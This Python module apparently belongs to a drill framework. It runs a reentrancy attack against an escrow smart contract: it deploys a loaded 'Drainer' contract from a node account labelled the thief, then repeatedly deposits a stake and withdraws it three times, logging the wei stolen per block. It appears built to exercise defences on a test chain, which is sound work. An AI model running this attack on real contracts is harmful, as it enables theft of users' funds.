"""Drain the escrow by reentrancy: a contract that is buyer and seller of its own order, and asks for its refund thrice.

Run as `python -m attacks.reentrancy --url NODE --escrow ADDRESS --seconds LIMIT`. Each blow is a transaction of its own, sent
with a tip that no block refuses, whether it will succeed or not: what the escrow refuses is on the chain as a failed
transaction. Prints a line for each blow that struck. Ends after its time, or when killed.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Any

from drillbook.chain.abi import encode, keccak, parse_signature
from drillbook.chain.client import ChainClient, ChainError
from drillbook.clock import SYSTEM_CLOCK, wait_until
from ops.escrow import load_artifact

THIEF = 9
"""Which of the node's accounts attacks: a seller with an open trade, whom nobody suspects."""
STAKE = 10**17
TIMES = 3
"""Each blow deposits STAKE wei and takes it out so many times."""
GAS = 400_000
TIP = 100 * 10**9
DRAIN = parse_signature("drain(bytes32,uint256)")


def transact(client: ChainClient, transaction: dict[str, Any]) -> dict[str, Any]:
    """Send at the attacker's price, and give the receipt, be it of a success or of a failure. Raises ChainError."""
    price = {"maxPriorityFeePerGas": hex(TIP), "maxFeePerGas": hex(5 * TIP)}
    digest = client.call("eth_sendTransaction", transaction | price)
    receipt = wait_until(lambda: client.call("eth_getTransactionReceipt", digest), 5.0, interval=0.02)
    if not receipt:
        raise ChainError("eth_sendTransaction", f"{digest} is not mined")
    mined: dict[str, Any] = receipt
    return mined


def attack(client: ChainClient, escrow: str, seconds: float, every: float) -> None:
    """Deploy the thief's contract and strike again and again, for so many seconds. Raises ChainError."""
    thief = client.accounts()[THIEF]
    code = load_artifact("drills/Drainer").bytecode + encode(("address",), (escrow,)).hex()
    contract = str(transact(client, {"from": thief, "data": code, "gas": hex(2_000_000)})["contractAddress"])
    ends, blow = SYSTEM_CLOCK.now() + seconds, 0
    while SYSTEM_CLOCK.now() < ends:
        blow += 1
        data = "0x" + DRAIN.encode((keccak(f"blow {blow} of {contract}".encode()), TIMES)).hex()
        sent = {"from": thief, "to": contract, "data": data, "value": hex(STAKE), "gas": hex(GAS)}
        receipt = transact(client, sent)
        if receipt["status"] == "0x1":
            block, stolen = int(receipt["blockNumber"], 16), STAKE * (TIMES - 1)
            print(json.dumps({"block": block, "stolen_wei": stolen, "thief": contract}), flush=True)
        SYSTEM_CLOCK.sleep(every)


def main() -> int:
    """Attack as the command line says."""
    parser = argparse.ArgumentParser(prog="python -m attacks.reentrancy", description=(__doc__ or "").split("\n\n")[0])
    parser.add_argument("--url", required=True, help="a node of the chain")
    parser.add_argument("--escrow", required=True, help="the escrow's address")
    parser.add_argument("--seconds", type=float, default=30.0, help="how long at most (30)")
    parser.add_argument("--every", type=float, default=0.3, help="seconds between two blows (0.3)")
    given = parser.parse_args()
    with ChainClient(given.url) as client:
        attack(client, given.escrow, given.seconds, given.every)
    return 0


if __name__ == "__main__":
    sys.exit(main())
